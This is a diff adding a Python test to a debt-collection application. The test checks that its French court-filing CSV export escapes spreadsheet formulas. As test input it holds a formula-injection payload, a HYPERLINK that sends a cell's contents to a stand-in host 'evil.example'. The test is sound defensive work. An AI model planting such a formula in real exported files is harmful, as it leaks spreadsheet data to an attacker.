@@ -130,3 +130,15 @@ def test_text_inputs_refuse_control_characters_with_a_french_message(world):
     assert response.status_code == 400, response.content
     assert CONTROL_MESSAGE in str(response.json())
     assert "\x07" not in Debtor.objects.get(pk=debtor.pk).name
+
+
+def test_the_court_request_file_neutralises_a_formula_typed_as_a_name():
+    """The court route's « requête » CSV (escalade.filing) was the one export left raw."""
+    import csv
+
+    from escalade.filing import filing_csv
+
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
+    text = filing_csv([("Débiteur", "Nom", evil), ("Créance", "Facture", "+1+2")])
+    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
+    assert [row[2] for row in rows] == ["Valeur", "'" + evil, "'+1+2"]
